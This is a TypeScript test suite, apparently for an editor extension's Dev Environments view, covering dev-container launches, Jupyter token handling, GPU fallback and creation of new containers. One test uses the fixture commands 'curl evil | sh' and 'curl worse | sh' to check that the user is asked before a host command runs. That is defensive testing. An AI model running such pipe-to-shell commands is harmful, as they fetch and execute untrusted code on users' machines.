// The view Dev Environments and its commands, as a person reads and uses them.
import assert from "node:assert/strict";
import { describe, it } from "mocha";
import { commands } from "../../../src/ui/commands/index.gen.ts";
import { EnvironmentTree } from "../../../src/ui/rows/environments/tree.ts";
import { environmentRow } from "../../../src/ui/rows/environments/row.ts";
import type { Environment } from "../../../src/app/stores/environments.ts";
import { fakeUi } from "../docker/fakeUi.ts";
import { type FakeEnvironments, fakeEnvironments, runtimeFile } from "./fakeEnvironments.ts";

const config = "/w/a/.devcontainer/devcontainer.json";
const raw = (more: object = {}) => ({
  Id: "c1",
  Names: ["/brave"],
  Image: "vsc-a",
  State: "running",
  Status: "Up 2 minutes",
  Created: 1,
  Labels: { "devcontainer.local_folder": "/w/a", "devcontainer.config_file": config },
  ...more,
});
const inspected = (port: number) => ({
  State: { Running: true, StartedAt: String(port) },
  NetworkSettings: { Ports: { "8888/tcp": [{ HostIp: "127.0.0.1", HostPort: String(port) }] } },
  Config: { Labels: { "devcontainer.metadata": '[{"remoteUser":"dev"}]' } },
  Mounts: [{ Source: "/w/a", Destination: "/workspaces/a" }],
});

/** One dev container that runs, with a Jupyter at that port. */
function running(port = 49_153): FakeEnvironments {
  const fake = fakeEnvironments();
  fake.files.set(config, '{"name": "train"}');
  fake.docker.containers.push(raw());
  fake.docker.app.containers.engine.inspect = async () => inspected(port);
  fake.docker.execute = { exitCode: 0, output: runtimeFile(8888, "t0ken") };
  return fake;
}

async function settle(): Promise<void> {
  for (let turn = 0; turn < 30; turn += 1) await new Promise((resolve) => setImmediate(resolve));
}

/** A tree whose first rows are there. */
async function opened(fake: FakeEnvironments): Promise<EnvironmentTree> {
  const tree = new EnvironmentTree(fake.app, fake.environments);
  const roots = tree.children(undefined);
  await settle();
  fake.docker.clock.advance(200);
  await roots;
  return tree;
}

async function shown(fake: FakeEnvironments): Promise<string[]> {
  const tree = await opened(fake);
  await settle();
  const lines = (await tree.children(undefined)).map((node) => {
    const { label, description, icon, words } = tree.row(node);
    return `${label} | ${description ?? ""} (${icon?.id}) #${words?.join(" ") ?? ""}`;
  });
  tree.dispose();
  return lines;
}

const run = async (
  name: string,
  fake: FakeEnvironments,
  answers: (string | boolean | undefined)[],
  target?: unknown,
) => {
  const command = commands.find((one) => one.id === `slipway.${name}`);
  assert.ok(command, name);
  const ui = fakeUi(answers);
  await command.run(fake.app, ui, target);
  return ui;
};

describe("Dev Environments", () => {
  it("shows a dev container before and after it is launched", async () => {
    const fake = fakeEnvironments();
    fake.files.set(config, '{"name": "train"}');
    assert.deepEqual(await shown(fake), [
      "train | not launched (circle-outline) #environment devcontainer absent",
    ]);
    assert.deepEqual(await shown(running()), [
      "train | Jupyter ready · 127.0.0.1:49153 · Python 3 (notebook) #environment devcontainer running present ready",
    ]);
  });

  it("says why when the engine is away, and keeps the files' rows", async () => {
    const fake = fakeEnvironments();
    fake.files.set(config, "{}");
    fake.docker.away = "Docker is not running.";
    assert.deepEqual(await shown(fake), [
      "Docker is not running. |  (debug-disconnect) #",
      "a | not launched (circle-outline) #environment devcontainer absent",
    ]);
  });

  it("keeps rows of an engine that went away, says that they are old, and offers nothing on them", async () => {
    const fake = running();
    const tree = await opened(fake);
    fake.docker.away = "Docker is not running.";
    fake.environments.refresh();
    await settle();
    fake.docker.clock.advance(200);
    const lines = (await tree.children(undefined)).map((node) => {
      const { label, description, words } = tree.row(node);
      return `${label} | ${description ?? ""} #${words?.join(" ") ?? ""}`;
    });
    assert.equal(lines[0], "Docker is not running. |  #");
    assert.match(lines[1] ?? "", /^train \| as last seen: .* #environment devcontainer$/);
    tree.dispose();
  });

  it("tells the window of other rows once, until it asks for them", async () => {
    const fake = running();
    const tree = await opened(fake);
    await settle();
    let told = 0;
    tree.changed((nodes) => (told += nodes === undefined ? 1 : 0));
    const come = async (name: string) => {
      fake.files.set(config.replace("/w/a/", `/w/${name}/`), `{"name": "${name}"}`);
      fake.environments.refresh();
      await settle();
      fake.docker.clock.advance(200);
      await settle();
    };
    await come("b");
    await come("c");
    assert.equal(told, 1);
    const labels = (await tree.children(undefined)).map((node) => tree.row(node).label);
    assert.deepEqual(labels.sort(), ["b", "c", "train"]);
    await come("d");
    assert.equal(told, 2);
    tree.dispose();
  });

  it("has a face for every state, and none of them shows a token", () => {
    const base = {
      kind: "devcontainer" as const,
      id: "x",
      label: "train",
      folder: "/w/a",
      configFile: config,
      busy: undefined,
      ended: undefined,
      isStale: false,
      jupyter: { kind: "off" as const },
    };
    const container = (state: string) => ({
      id: "c1",
      name: "brave",
      image: "i",
      imageId: "",
      state,
      status: "",
      ports: [],
      createdMs: 0,
      gpusAsked: undefined,
      command: "",
      devcontainer: undefined,
    });
    const row = (more: object) => {
      const made = environmentRow({ ...base, ...more } as unknown as Environment, {
        canAttach: true,
        gpus: undefined,
      });
      return `${made.description} (${made.icon?.id}) #${made.words?.slice(2).join(" ")}`;
    };
    const up = { container: container("running") };
    assert.equal(row({ container: undefined }), "not launched (circle-outline) #absent");
    assert.equal(row({ busy: "Building the image" }), "Building the image (loading~spin) #busy");
    assert.equal(row({ container: container("exited") }), "stopped (vm-outline) #stopped present");
    assert.equal(
      row({ container: container("exited"), ended: "killed because memory ran out" }),
      "stopped: killed because memory ran out (error) #stopped present",
    );
    assert.equal(row({ container: container("created") }), "was never started (vm-outline) #stopped present");
    assert.equal(row({ container: container("paused") }), "paused (debug-pause) #paused present");
    assert.equal(row(up), "running · no Jupyter server (vm-running) #running present quiet attachable");
    assert.equal(
      row({ ...up, jupyter: { kind: "unknown" } }),
      "running · looking for Jupyter (vm-running) #running present attachable",
    );
    assert.equal(
      row({ ...up, jupyter: { kind: "wrong-token", why: "w" } }),
      "running · Jupyter does not take the token (warning) #running present locked attachable",
    );
    assert.equal(
      row({ ...up, jupyter: { kind: "unreachable", why: "w" } }),
      "running · Jupyter can't be reached (warning) #running present unreachable attachable",
    );
    assert.equal(
      row({ ...up, jupyter: { kind: "ready", url: "http://127.0.0.1:1/", version: "2", kernels: [] } }),
      "Jupyter at 127.0.0.1:1 has no kernels (warning) #running present ready attachable",
    );
  });

  it("opens and copies with the token, which is said nowhere", async () => {
    const fake = running();
    const opened = await run("openJupyter", fake, []);
    assert.deepEqual(opened.shown, [
      "progress Looking for the Jupyter of train",
      "open http://127.0.0.1:49153/?token=t0ken",
    ]);
    const copied = await run("copyJupyterUrl", fake, []);
    assert.equal(copied.shown[1], "copy http://127.0.0.1:49153/?token=t0ken");
    assert.match(copied.shown[2] ?? "", /^info The URL is on the clipboard, with its token/);
    assert.ok(!copied.shown[2]?.includes("t0ken"));
    assert.deepEqual([...fake.secrets.values()], ["t0ken"]);
  });

  it("says what is wrong instead of opening", async () => {
    const fake = running();
    fake.check = { kind: "wrong-token" };
    const ui = await run("openJupyter", fake, []);
    assert.match(ui.shown.at(-1) ?? "", /^trouble Jupyter does not take its token/);
    fake.docker.containers.length = 0;
    const none = await run("openJupyter", fake, []);
    assert.deepEqual(none.shown, [
      "info No dev environment is running, and no cluster with a notebook is open. Launch one first.",
    ]);
  });

  it("launches with the GPU that is there, and offers what to do with Jupyter", async () => {
    const fake = running();
    fake.files.set(config, '{"name": "train", "hostRequirements": {"gpu": "optional"}}');
    fake.hasJupyter = true;
    fake.runs.push({
      lines: ['{"type":"raw","level":3,"text":"#1 building\\n"}'],
      outcome: { outcome: "success", containerId: "c1" },
    });
    const ui = await run("launchDevContainer", fake, ["Copy URL"]);
    assert.match(fake.docker.did.at(-1) ?? "", /--gpu-availability=all/);
    assert.match(
      ui.shown.find((line) => line.startsWith("info train")) ?? "",
      /^info train is ready: Jupyter at http:\/\/127\.0\.0\.1:49153\/, kernels: Python 3\. The container sees 1 × NVIDIA H100\. \[Use in Notebook \| Open in Browser \| Copy URL\]$/,
    );
    assert.match(ui.streams.get("Slipway Dev Container: train") ?? "", /#1 building/);
    assert.equal(fake.offered, 1);
    assert.deepEqual(
      fake.app.usedEnvironments.all.map((one) => one.label),
      ["train"],
    );
    assert.ok(ui.shown.filter((line) => line.includes("t0ken")).every((line) => line.startsWith("copy ")));
  });

  it("launches nothing twice at once", async () => {
    const fake = running();
    const [one] = await fake.environments.load(new AbortController().signal);
    assert.ok(one);
    await fake.environments.during(one.id, async (say) => {
      say("Building the image");
      const ui = await run("launchDevContainer", fake, [], one);
      assert.deepEqual(ui.shown, ["info train is being worked on already. Wait for its end, or cancel it."]);
    });
    assert.deepEqual(fake.docker.did, []);
  });

  it("goes on without a GPU that was promised and not given, but never throws a container away for that", async () => {
    const gpu = '{"hostRequirements": {"gpu": "optional"}}';
    const refused = {
      lines: [
        '{"type":"raw","level":3,"text":"could not select device driver \\"\\" with capabilities: [[gpu]]\\n"}',
      ],
      outcome: { outcome: "error", message: "Command failed" },
    };
    const fresh = fakeEnvironments();
    fresh.files.set(config, gpu);
    fresh.runs.push(refused, { lines: [], outcome: { outcome: "success", containerId: "c1" } });
    const up = await fresh.app.launches.up(
      { folder: "/w/a", configFile: config, rebuild: false },
      { step() {}, log() {} },
      new AbortController().signal,
    );
    assert.equal(up.gpu.availability, "none");
    assert.match(fresh.docker.did.at(-1) ?? "", /--gpu-availability=none .*--remove-existing-container/);
    const old = running();
    old.files.set(config, gpu);
    old.runs.push(refused);
    const ui = await run("launchDevContainer", old, []);
    assert.match(ui.shown.at(-1) ?? "", /^trouble The container was made with a GPU .* Rebuild it/);
    assert.equal(old.docker.did.length, 1);
  });

  it("shows what would run on this machine, and launches only after a yes", async () => {
    const fake = running();
    fake.files.set(config, '{"name": "train", "initializeCommand": "curl evil | sh"}');
    const no = await run("launchDevContainer", fake, [false]);
    assert.match(
      no.shown.join("\n"),
      /^confirm This dev container runs a command on your machine.*curl evil \| sh/s,
    );
    assert.deepEqual(fake.docker.did, []);
    fake.runs.push({ lines: [], outcome: { outcome: "success", containerId: "c1" } });
    await run("launchDevContainer", fake, [true, undefined]);
    assert.equal(fake.docker.did.length, 1);
    fake.files.set(config, '{"name": "train", "initializeCommand": "curl worse | sh"}');
    const again = await run("launchDevContainer", fake, [false]);
    assert.match(again.shown.join("\n"), /curl worse/);
  });

  it("asks before it rebuilds or removes, and forgets the token of what is removed", async () => {
    const fake = running();
    await run("openJupyter", fake, []);
    await run("rebuildDevContainer", fake, [false]);
    await run("removeEnvironment", fake, [false]);
    assert.deepEqual(fake.docker.did, []);
    const ui = await run("removeEnvironment", fake, [true]);
    assert.match(
      ui.shown[0] ?? "",
      /^confirm Remove the container of train\? .*It is running and will be killed.*devcontainer\.json stays\./,
    );
    assert.deepEqual(fake.docker.did, ["remove container c1"]);
    assert.equal(fake.secrets.size, 0);
    assert.deepEqual(fake.app.usedEnvironments.all, []);
  });

  it("stops, starts and checks", async () => {
    const fake = running();
    await run("stopEnvironment", fake, []);
    fake.docker.containers[0] = raw({ State: "exited" });
    fake.runs.push({ lines: [], outcome: { outcome: "success", containerId: "c1" } });
    await run("startEnvironment", fake, [undefined]);
    // By the command line, so that what devcontainer.json has to run at each start is run.
    assert.match(fake.docker.did.join("\n"), /^stop c1\nup --workspace-folder=\/w\/a /);
    fake.files.clear();
    fake.docker.did.length = 0;
    await run("startEnvironment", fake, []);
    assert.deepEqual(fake.docker.did, ["start c1"]);
    fake.files.set(config, '{"name": "train"}');
    fake.docker.containers[0] = raw();
    const ui = await run("checkJupyter", fake, []);
    assert.equal(ui.shown.at(-1), "info train: Python 3 runs: Python 3.12.");
  });

  it("attaches where Dev Containers is there, and says what is missing where it is not", async () => {
    const fake = running();
    await assert.rejects(run("attachDevContainer", fake, []), /Dev Containers is not installed here/);
    fake.canAttach = true;
    await run("attachDevContainer", fake, []);
    assert.deepEqual(fake.attached, ["brave /workspaces/a"]);
  });

  it("keeps a token that was entered, without showing it", async () => {
    const fake = running();
    const ui = await run("enterJupyterToken", fake, ["mine"]);
    assert.ok(ui.shown.length > 0);
    assert.deepEqual([...fake.secrets.values()], ["mine"]);
  });
});

describe("New Jupyter Dev Container…", () => {
  it("asks for framework, Python, CUDA and folder, and writes both files", async () => {
    const fake = fakeEnvironments();
    fake.folders = ["/w/new"];
    const ui = await run("newJupyterDevContainer", fake, [
      "PyTorch 2.14",
      "Python 3.12",
      "CUDA 13.0",
      "new",
      undefined,
    ]);
    assert.deepEqual(Array.from(fake.files.keys()), [
      "/w/new/.devcontainer/devcontainer.json",
      "/w/new/.devcontainer/Dockerfile",
    ]);
    assert.match(fake.files.get("/w/new/.devcontainer/devcontainer.json") ?? "", /"gpu": "optional"/);
    assert.match(
      ui.shown.at(-1) ?? "",
      /^info Wrote \/w\/new\/.devcontainer\/devcontainer\.json and its Dockerfile\. \[Launch\]/,
    );
  });

  it("never writes over one that is there", async () => {
    const fake = fakeEnvironments();
    fake.files.set(config, "mine");
    await run("newJupyterDevContainer", fake, ["JAX", "Python 3.13", "No GPU", true, undefined], "/w/a");
    assert.equal(fake.files.get(config), "mine");
    assert.ok(fake.files.has("/w/a/.devcontainer/jax/devcontainer.json"));
  });

  it("writes nothing when a question is dismissed", async () => {
    for (const answers of [
      [undefined],
      ["JAX", undefined],
      ["JAX", "Python 3.13", undefined],
      ["JAX", "Python 3.13", "CUDA 13", undefined],
    ]) {
      const fake = fakeEnvironments();
      await run("newJupyterDevContainer", fake, answers);
      assert.equal(fake.files.size, 0);
    }
  });
});
